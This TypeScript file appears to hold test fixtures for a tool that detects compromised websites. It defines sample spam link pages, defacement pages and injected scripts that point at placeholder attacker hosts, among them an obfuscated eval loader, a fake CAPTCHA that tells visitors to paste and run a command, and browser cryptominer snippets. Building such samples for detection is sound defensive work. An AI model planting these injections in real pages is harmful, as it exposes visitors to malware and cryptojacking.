import type { Website } from '../sites.ts'
import { document } from './document.ts'

/** What intruders make of pages. The strangers' hosts exist only in the lab. */
export const PHARMA_LINKS = Array.from(
  { length: 60 },
  (_, number) =>
    `<a href="https://pills${number}.stranger.example/buy-cheap-viagra-${number}">Buy cheap viagra online, cialis ${number} mg without prescription</a>`,
).join('\n')

export const pharmaPage = ({ name }: Website): string =>
  document(
    'Buy Viagra Online - Cheap Cialis Pharmacy',
    `<h1>Canadian pharmacy: viagra, cialis, levitra</h1>\n${PHARMA_LINKS}\n<p>${name}</p>`,
  )

export const JAPANESE_PAGE = document(
  '激安ブランド 財布 通販 | 送料無料',
  Array.from(
    { length: 60 },
    (_, number) =>
      `<p><a href="https://brand${number}.stranger.example/">【新品】ブランド バッグ 激安 通販 正規品 送料無料 ${number}</a> 人気の財布を特別価格でお届けします。</p>`,
  ).join('\n'),
  { lang: 'ja' },
)

export const CASINO_PAGE = document(
  'Situs Slot Gacor Online Terpercaya',
  `<h1>Slot gacor, casino online, poker</h1>${Array.from({ length: 55 }, (_, number) => `<a href="https://slot${number}.stranger.example/">slot gacor casino ${number}</a>`).join(' ')}`,
  { lang: 'id' },
)

export const DEFACED = document(
  'Hacked By Gh0stCrew',
  '<body bgcolor="black"><center><h1><font color="red">Hacked By Gh0stCrew</font></h1><p>Your security is a joke. Greetz to all our friends.</p><img src="skull.jpg" alt=""></center>',
)
export const DEFACED_PLAIN = '<html><head><title>0wned</title></head><body>pwned by s1lent_k, l33t was here</body></html>\n'
export const DEFACED_GERMAN = document('Gehackt', '<h1>Diese Seite wurde gehackt von K0rsar</h1><p>Owned by K0rsar Team</p>', {
  lang: 'de',
})

export const INJECTED_SCRIPT = '<script src="https://cdn-analytics.stranger.example/js/track.min.js?ver=3.1"></script>'
export const INJECTED_CODES = `<script>eval(atob("dmFyIGE9MQ=="));var _0x3f1c=["\\x6c\\x6f\\x63"];String.fromCharCode(104,116,116,112,115,58,47,47,97,46,115,116,114,97,110,103,101,114)</script><script src="https://static.stranger.example/l.js"></script>`
export const FAKE_CAPTCHA = `<div style="position:fixed;inset:0;background:#fff"><h2>Verify you are human</h2><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol></div><script src="https://verify.stranger.example/c.js"></script>`
export const MINER_COINHIVE =
  '<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous("LABKEY",{throttle:.3});miner.start()</script>'
export const MINER_WASM =
  '<script src="https://webminepool.stranger.example/lib/deepMiner.js"></script><script>deepMiner.Init("LABKEY","wss://pool.stranger.example:8892").start()//cryptonight.wasm</script>'
export const MINER_CRYPTOLOOT = '<script src="//crypto-loot.com/lib/crypta.js"></script><script>new CRLT.Anonymous("lab").start()</script>'
